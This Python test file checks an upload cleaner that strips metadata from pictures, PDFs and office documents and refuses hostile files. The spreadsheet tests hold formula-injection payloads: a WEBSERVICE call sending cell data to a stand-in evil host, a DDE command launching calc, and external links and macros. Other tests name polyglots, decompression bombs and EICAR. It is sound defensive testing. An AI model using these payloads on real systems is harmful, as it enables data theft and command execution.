"""What becomes of files before they are kept: harmless ones written anew, the others refused."""

import hashlib
import io
import re
import unicodedata
import zipfile
import zlib

import openpyxl
import pikepdf
import pytest
from django.core.exceptions import ImproperlyConfigured
from PIL import Image

import files
from files import RefusedFileError, names, scanning
from files.pictures import without_metadata
from files.terms import DOCUMENTS, FileKind
from prevent_portal import guard
from tests.referrals import clamd, hostile

SENTENCE = re.compile(r"“.*” .*[A-Z].*[a-z)]$")


# Harmless ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", hostile.GOOD)
def test_an_honest_file_is_kept(name):
    kept = files.clean(name, hostile.GOOD[name])
    assert kept.name == name.replace(".webp", ".jpg")
    assert kept.sha256 == hashlib.sha256(kept.content).hexdigest()
    assert files.clean(kept.name, kept.content).kind == kept.kind


def test_the_same_file_comes_out_the_same_so_that_it_is_known_again():
    for name in ("notes.pdf", "screenshot.png", "letter.docx", "letter.odt"):
        content = hostile.GOOD[name]
        assert files.clean(name, content).sha256 == files.clean(name, content).sha256


def test_what_is_hidden_in_a_picture_is_gone_and_it_stands_upright():
    for name, content in {
        "a.jpg": hostile.jpeg_with_place(),
        "a.png": hostile.png_with_words(),
    }.items():
        assert hostile.SECRET.encode() in content
        kept = files.clean(name, content)
        assert hostile.SECRET.encode() not in kept.content
        with Image.open(io.BytesIO(kept.content)) as picture:
            assert not picture.getexif()
            assert set(picture.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
            assert picture.size == ((48, 64) if name == "a.jpg" else (64, 48))


def test_who_wrote_a_document_is_gone_and_its_words_are_there():
    for name, part in {"letter.docx": "word/document.xml", "letter.odt": "content.xml"}.items():
        kept = files.clean(name, hostile.GOOD[name])
        with zipfile.ZipFile(io.BytesIO(kept.content)) as package:
            assert b"My notes." in package.read(part)
            assert all(
                hostile.SECRET.encode() not in package.read(one) for one in package.namelist()
            )

    def signed(made):
        made.docinfo["/Author"] = hostile.SECRET
        with made.open_metadata() as meta:
            meta["dc:creator"] = [hostile.SECRET]

    kept = files.clean("a.pdf", hostile.pdf(signed))
    with pikepdf.open(io.BytesIO(kept.content)) as pdf:
        assert "/Info" not in pdf.trailer
        assert "/Metadata" not in pdf.Root
        assert len(pdf.pages) == 1


def test_pictures_inside_documents_lose_what_is_hidden_too():
    photo = hostile.jpeg_with_place()
    assert hostile.SECRET.encode() not in without_metadata(photo)
    parts = hostile.docx_parts(**{"word/media/image1.jpg": photo})
    kept = files.clean("a.docx", hostile.packed(parts))
    with zipfile.ZipFile(io.BytesIO(kept.content)) as package:
        inside = package.read("word/media/image1.jpg")
    assert hostile.SECRET.encode() not in inside
    Image.open(io.BytesIO(inside)).load()

    def shows(made):
        picture = made.make_stream(photo, Subtype=pikepdf.Name.Image, Width=64, Height=48)
        picture.Filter = pikepdf.Name.DCTDecode
        made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=picture))

    assert hostile.SECRET.encode() not in files.clean("a.pdf", hostile.pdf(shows)).content


def test_a_picture_in_a_pdf_is_cleaned_however_it_is_packed():
    photo = hostile.jpeg_with_place()
    for filters, packed in (
        (["/DCTDecode"], photo),
        (["/FlateDecode", "/DCTDecode"], zlib.compress(photo)),
        (["/ASCIIHexDecode", "/DCTDecode"], photo.hex().encode() + b">"),
    ):

        def shows(made, filters=filters, packed=packed):
            picture = made.make_stream(packed, Subtype=pikepdf.Name.Image, Width=64, Height=48)
            picture.Filter = pikepdf.Array([pikepdf.Name(one) for one in filters])
            made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=picture))

        kept = files.clean("a.pdf", hostile.pdf(shows))
        with pikepdf.open(io.BytesIO(kept.content)) as pdf:
            inside = pdf.pages[0].Resources.XObject.P.read_raw_bytes()
        assert hostile.SECRET.encode() not in inside, filters
        Image.open(io.BytesIO(inside)).load()


def test_what_a_telephone_hangs_on_behind_a_picture_is_gone():
    photo = hostile.jpeg_with_place()
    plain = io.BytesIO()
    Image.effect_noise((200, 100), 90).save(plain, "JPEG", progressive=True)
    bare = without_metadata(plain.getvalue() + photo)
    assert hostile.SECRET.encode() not in bare
    before, after = (Image.open(io.BytesIO(one)) for one in (plain.getvalue(), bare))
    assert before.tobytes() == after.tobytes()
    hidden = b"\xff\xe2" + (2 + 4 + len(photo)).to_bytes(2, "big") + b"MPF\0" + photo
    assert without_metadata(photo[:2] + hidden + photo[2:]) == without_metadata(photo)


def test_a_tiff_inside_a_document_is_refused():
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "TIFF")
    parts = hostile.docx_parts(**{"word/media/image1.png": out.getvalue()})
    with pytest.raises(files.RefusedFileError, match="TIFF"):
        files.clean("a.docx", hostile.packed(parts))


def test_nothing_of_a_pdf_opens_by_itself_wherever_it_stands():
    def asks(made):
        opens = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/read")
        made.pages[0].Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[0, 0, 9, 9],
                    AA=pikepdf.Dictionary(PO=opens),
                )
            ]
        )
        typeface = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        made.pages[0].Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(AA=typeface))

    kept = files.clean("a.pdf", hostile.pdf(asks))
    with pikepdf.open(io.BytesIO(kept.content)) as pdf:
        assert "/AA" not in pdf.pages[0].Annots[0]
        assert "/AA" in pdf.pages[0].Resources.Font  # a name like another


def test_a_link_that_a_person_follows_stays_in_a_document():
    parts = hostile.docx_parts(
        **{"word/_rels/document.xml.rels": hostile.relations("hyperlink", "https://example.org/")}
    )
    assert files.clean("a.docx", hostile.packed(parts)).kind == FileKind.DOCX
    content = '<text:a xlink:href="https://example.org/">x</text:a>'
    assert files.clean("a.odt", hostile.packed(hostile.odt_parts(content))).kind == FileKind.ODT


def test_text_of_any_usual_kind_becomes_utf_8():
    for codec in ("utf-8", "utf-8-sig", "utf-16", "cp1252"):
        assert files.clean("a.txt", "Łódź — no".encode(codec, "ignore")).content.endswith(
            b"\xe2\x80\x94 no"
        )


# Hostile ----------------------------------------------------------------------------------------
def test_the_corpus_is_large_and_every_file_in_it_has_its_own_name():
    names_there = [name for name, _content in hostile.hostile()]
    assert len(names_there) == len(set(names_there)) >= 340


def test_each_hostile_file_is_refused_with_a_sentence_or_made_inert():
    """One walk through all of them: what is kept is one of our kinds, and nothing else besides."""
    kept, refused = {}, {}
    for name, content in hostile.hostile():
        try:
            kept[name] = files.clean(name, content)
        except RefusedFileError as problem:
            refused[name] = str(problem)
    assert [name for name, said in refused.items() if not SENTENCE.match(said)] == []
    assert not re.search(r"invalid|required|failed", " ".join(refused.values()), re.IGNORECASE)
    for name, one in kept.items():
        assert one.kind in FileKind, name
        assert one.name == names.showable(one.name), name
        assert not any(unicodedata.category(c) in names.UNSEEN for c in one.name), name
        assert len(one.name) <= names.MOST_CHARACTERS, name
        assert not set(one.name) & set('/\\:<>|"*?'), name
        for mark in (b"<script", b"<?php", b"alert(1)", b"evil", b"MZ\x90", b"PK\x05\x06"):
            if one.kind != FileKind.DOCX or mark not in (b"PK\x05\x06",):
                assert mark not in one.content, (name, mark)
        _is_one_thing(one)
    # Which may stay, once written anew: all the others of the corpus are refused.
    odd_names = {
        name for name, content in hostile.hostile() if content == hostile.GOOD["photo.jpg"]
    }
    assert set(kept) - odd_names == INERT, set(kept) - odd_names ^ INERT


INERT = {
    "jpeg-and-zip.jpg",
    "jpeg-and-html.jpg",
    "jpeg-and-php.jpg",
    "jpeg-comment-php.jpg",
    "png-and-zip.png",
    "png-and-jar.png",
    "place.jpg",
    "words.png",
    "moving.png",
    "moving.webp",
    "cmyk.jpg",
    "pdf-and-html.pdf",
    "pdf-and-zip.pdf",
    "docx-and-exe.docx",
}


def _is_one_thing(one: files.CleanFile) -> None:
    """It reads as its kind to the last byte, and holds one picture."""
    if one.kind in (FileKind.JPEG, FileKind.PNG):
        end = b"\xff\xd9" if one.kind == FileKind.JPEG else b"IEND\xaeB`\x82"
        assert one.content.endswith(end)
        with Image.open(io.BytesIO(one.content)) as picture:
            assert getattr(picture, "n_frames", 1) == 1
    elif one.kind == FileKind.PDF:
        assert one.content.startswith(b"%PDF-")
        assert one.content.rstrip().endswith(b"%%EOF")
    elif one.kind in (FileKind.DOCX, FileKind.ODT):
        with zipfile.ZipFile(io.BytesIO(one.content)) as package:
            assert package.infolist()[0].header_offset == 0
            assert package.testzip() is None


def test_a_picture_of_fifty_thousand_by_fifty_thousand_is_refused_before_it_is_drawn():
    for name in ("bomb-50000.png", "bomb-8000.png"):
        content = dict(hostile.hostile())[name]
        with pytest.raises(RefusedFileError, match="too many dots"):
            files.clean(name, content)


def test_a_large_photograph_is_drawn_smaller_rather_than_refused(monkeypatch):
    monkeypatch.setattr("files.pictures.MOST_KEPT", 40_000)
    noise = Image.effect_noise((6_000, 4_000), 60)
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=20)
    kept = files.clean("a.jpg", out.getvalue())
    with Image.open(io.BytesIO(kept.content)) as picture:
        assert max(picture.size) == 2_500


# Names ------------------------------------------------------------------------------------------
def test_a_download_carries_the_reference_and_no_name():
    assert names.of_download("NY-2026-0042", 2, "pdf") == "NY-2026-0042-attachment-2.pdf"
    assert names.of_download("", 1, "jpeg") == "concern-attachment-1.jpg"


# The scanner ------------------------------------------------------------------------------------
def test_the_scanner_is_spoken_to_in_its_own_protocol(tmp_path):
    with clamd.running(tmp_path) as (address, daemon):
        scanner = scanning.from_address(address)
        large = b"a" * 1_000_000
        assert scanner.scan(large) == scanning.Verdict.CLEAN
        assert scanner.scan(hostile.EICAR) == scanning.Verdict.INFECTED
        assert daemon.scanned == [large, hostile.EICAR]
        daemon.answer = b"stream: Can't allocate memory ERROR\0"
        with pytest.raises(scanning.NotScannedError):
            scanner.scan(b"a")
        daemon.answer, daemon.most = None, 1_000
        with pytest.raises(scanning.NotScannedError):
            scanner.scan(large)
        for silence in (b"", b"\0"):
            daemon.most, daemon.answer = 25_000_000, silence
            with pytest.raises(scanning.ScannerAwayError):
                scanner.scan(b"a")
    with pytest.raises(scanning.ScannerAwayError):
        scanner.scan(b"a")


def test_a_scanner_behind_a_port_that_is_silent_or_talks_too_much_calls_nothing_clean():
    with clamd.on_a_port() as (address, daemon):
        scanner = scanning.from_address(address)
        assert isinstance(scanner, scanning.Clamd)
        assert scanner.scan(b"a" * 1_000_000) == scanning.Verdict.CLEAN
        assert scanner.scan(hostile.EICAR) == scanning.Verdict.INFECTED
        for long in (b"x" * 9_000 + b" FOUND\0", b"stream: OK" * 1_000 + b"\0"):
            daemon.answer = long
            with pytest.raises(scanning.NotScannedError):
                scanner.scan(b"a")
        daemon.answer = None
        daemon.may_answer.clear()
        scanner.seconds = 0.2
        with pytest.raises(scanning.ScannerAwayError, match="TimeoutError"):
            scanner.scan(b"a")
        scanner.seconds = 0
        with pytest.raises(scanning.ScannerAwayError, match="TimeoutError"):
            scanner.scan(b"a")
    with pytest.raises(scanning.ScannerAwayError, match="Refused"):
        scanning.from_address(address).scan(b"a")


def test_what_takes_too_long_to_look_at_is_refused_before_anybody_looks():
    """Each of these small files kept a processor busy for more than half a minute."""
    out = io.BytesIO()
    Image.new("L", (64, 64)).save(out, "JPEG", progressive=True)
    picture = out.getvalue()
    layer = picture[picture.rfind(b"\xff\xda") : -2]
    assert files.clean("a.jpg", picture[:-2] + layer * 10 + picture[-2:])
    with pytest.raises(RefusedFileError, match="too many layers"):
        files.clean("a.jpg", picture[:-2] + layer * 60 + picture[-2:])
    good = hostile.GOOD["letter.docx"]
    for filling in (b"<w:p/>" * 1_000_001, b"<w:p " + b'a="" ' * 2_000_001 + b"/>"):
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(good)) as before, zipfile.ZipFile(out, "w", 8) as after:
            for name in before.namelist():
                part = before.read(name)
                if name == "word/document.xml":
                    part = part.replace(b"</w:body>", filling + b"</w:body>")
                    assert filling in part
                after.writestr(name, part)
        with pytest.raises(RefusedFileError, match="far too large when it is opened"):
            files.clean("a.docx", out.getvalue())
    out = io.BytesIO()
    Image.new("1", (4_100, 4_000)).convert("RGB").save(out, "WEBP", method=0)
    with pytest.raises(RefusedFileError, match="too many dots"):
        files.clean("a.webp", out.getvalue())


def test_nothing_but_a_scanners_own_ok_counts_as_clean(tmp_path):
    with clamd.running(tmp_path) as (address, daemon):
        scanner = scanning.from_address(address)
        for answer in (
            b"OK\0",
            b"stream: ok\0",
            b"stream: OK?\0",
            b"PONG\0",
            b"stream: OK ERROR\0",
        ):
            daemon.answer = answer
            with pytest.raises(scanning.NotScannedError):
                scanner.scan(b"a")


def test_a_scanner_has_an_address_of_a_known_kind():
    assert isinstance(scanning.from_address("clamd://127.0.0.1:3310"), scanning.Clamd)
    for address in ("http://x", "clamd:", "/run/clamd", "127.0.0.1:3310"):
        with pytest.raises(ImproperlyConfigured, match="SCANNER"):
            scanning.from_address(address)


def test_files_that_nobody_looked_at_are_opened_in_a_demonstration_only():
    guard.check_unscanned(demonstration=True)
    with pytest.raises(ImproperlyConfigured, match="demonstration"):
        guard.check_unscanned(demonstration=False)


# Spreadsheets -----------------------------------------------------------------------------------
SHEETS = (*DOCUMENTS, FileKind.XLSX)


def with_printer(name, part):
    if name == "xl/worksheets/sheet1.xml":
        assert b"<pageMargins" in part
        return re.sub(
            rb"(<pageMargins[^>]*/>)", rb'\1<pageSetup paperSize="9" r:id="rId7"/>', part
        ).replace(b"<worksheet ", f'<worksheet xmlns:r="{hostile.REL}" '.encode(), 1)
    return part


def test_a_spreadsheet_is_kept_with_its_sums_and_without_its_author_and_its_printer():
    printer = hostile.relations("printerSettings", "../printerSettings/printerSettings1.bin")
    content = hostile.workbook(
        "=SUM(B1:B2)",
        '=B1&"|"&B2',
        change=with_printer,
        more={
            "xl/worksheets/_rels/sheet1.xml.rels": printer.replace(b' TargetMode="External"', b""),
            "xl/printerSettings/printerSettings1.bin": hostile.SECRET.encode(),
        },
    )
    kept = files.clean("training.xlsx", content, taken=SHEETS)
    assert (kept.kind, kept.name) == (FileKind.XLSX, "training.xlsx")
    with zipfile.ZipFile(io.BytesIO(kept.content)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert not [name for name in parts if "printer" in name.lower()]
    assert all(b"rId7" not in part and b"printer" not in part.lower() for part in parts.values())
    assert all(hostile.SECRET.encode() not in part for part in parts.values())
    sheet = openpyxl.load_workbook(io.BytesIO(kept.content)).active
    assert [sheet[f"A{row}"].value for row in (1, 2, 3)] == [
        "Staff trained",
        "=SUM(B1:B2)",
        '=B1&"|"&B2',
    ]


@pytest.mark.parametrize(
    "content",
    [
        hostile.workbook('=WEBSERVICE("http://evil.example.org/"&A1)'),
        hostile.workbook("=cmd|'/C calc'!A0"),
        hostile.workbook('=\'a"b\'!A1+WEBSERVICE("x")&""'),
        hostile.workbook('=HYPERLINK("http://evil.example.org/","Open")'),
        hostile.workbook(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        hostile.workbook(
            change=lambda name, part: part.replace(
                b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
            )
        ),
        hostile.workbook(
            more={
                "xl/worksheets/_rels/sheet1.xml.rels": hostile.relations(
                    "externalLinkPath", "file://evil.example.org/x.xlsx"
                )
            }
        ),
        hostile.packed(hostile.docx_parts()),
        hostile.HTML,
        hostile.EXE,
    ],
    ids=[
        "fetch",
        "dde",
        "quoted",
        "link",
        "macro",
        "macro-type",
        "elsewhere",
        "word",
        "web",
        "exe",
    ],
)
def test_a_spreadsheet_that_does_more_than_calculate_is_refused(content):
    with pytest.raises(RefusedFileError):
        files.clean("a.xlsx", content, taken=SHEETS)


def test_a_concern_takes_no_spreadsheet():
    with pytest.raises(RefusedFileError, match="Save it as PDF"):
        files.clean("a.xlsx", hostile.workbook())
